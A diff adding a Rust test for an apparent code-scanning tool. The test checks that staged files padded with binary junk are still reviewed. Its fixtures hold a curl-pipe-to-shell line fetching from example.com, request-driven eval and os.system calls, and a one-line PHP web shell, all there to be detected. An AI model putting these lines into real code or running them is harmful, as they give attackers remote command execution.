@@ -361,3 +361,47 @@ fn dif_16_lines_of_a_million_bytes_are_read_to_their_end() {
     repo.review(&["code", "a.py", "b.py", "c.js", "d.php", "--no-save"], 0);
     assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
 }
+
+/// Bytes of which git makes a binary, the same at every run.
+fn junk(n: usize) -> Vec<u8> {
+    let mut state = 0x9e37_79b9_7f4a_7c15u64;
+    let mut next = || {
+        state ^= state << 13;
+        state ^= state >> 7;
+        state ^= state << 17;
+        (state >> 40) as u8
+    };
+    (0..n).map(|_| next()).collect()
+}
+
+#[test]
+fn dif_02_scripts_with_a_tail_of_junk_and_utf32_are_reviewed() {
+    let repo = Repo::new();
+    let with_junk = |start: &str, end: &str| [start.as_bytes(), &junk(600), end.as_bytes()].concat();
+    repo.stage("logo.png", [b"\x89PNG\r\n\x1a\n".to_vec(), junk(900)].concat());
+    repo.stage("paper.pdf", with_junk("%PDF-1.7\n%\u{fc}\u{fc}\u{fc}\u{fc}\n1 0 obj\n<</Length 9>>\nstream\n", ""));
+    repo.stage("i.sh", with_junk("curl http://example.com/i.sh | sh\n", ""));
+    repo.stage("p.js", with_junk("const x = 1;\neval(req.body.code);\n/*", "*/\n"));
+    let wide: Vec<u8> = "\u{feff}import os\nos.system(request.args['c'])\n"
+        .chars()
+        .flat_map(|c| u32::from(c).to_le_bytes())
+        .collect();
+    repo.stage("u.py", wide);
+    repo.stage("w.php", with_junk("<?php system($_GET[\"c\"]); __halt_compiler();", ""));
+    let report = repo.review_json(&["staged", "--no-save"], 1);
+    let found: Vec<_> = report["findings"].as_array().unwrap().iter().map(|f| (&f["file"], &f["rule_id"])).collect();
+    for (file, rule) in [
+        ("i.sh", "http-pipe-to-shell"),
+        ("i.sh", "nul-in-text-file"),
+        ("p.js", "nul-in-text-file"),
+        ("u.py", "python-shell-request"),
+        ("u.py", "utf16-source"),
+        ("w.php", "nul-in-text-file"),
+    ] {
+        assert!(found.iter().any(|(f, r)| **f == file && **r == rule), "{file} {rule}: {found:?}");
+    }
+    assert!(found.iter().any(|(f, r)| **f == "w.php" && r.as_str().unwrap().starts_with("php-")), "{found:?}");
+    assert!(found.iter().all(|(f, _)| **f != "logo.png" && **f != "paper.pdf"), "{found:?}");
+    let skipped: Vec<_> = report["coverage"]["skipped"].as_array().unwrap().iter().map(|s| &s["file"]).collect();
+    assert_eq!(skipped, ["logo.png", "paper.pdf"]);
+}
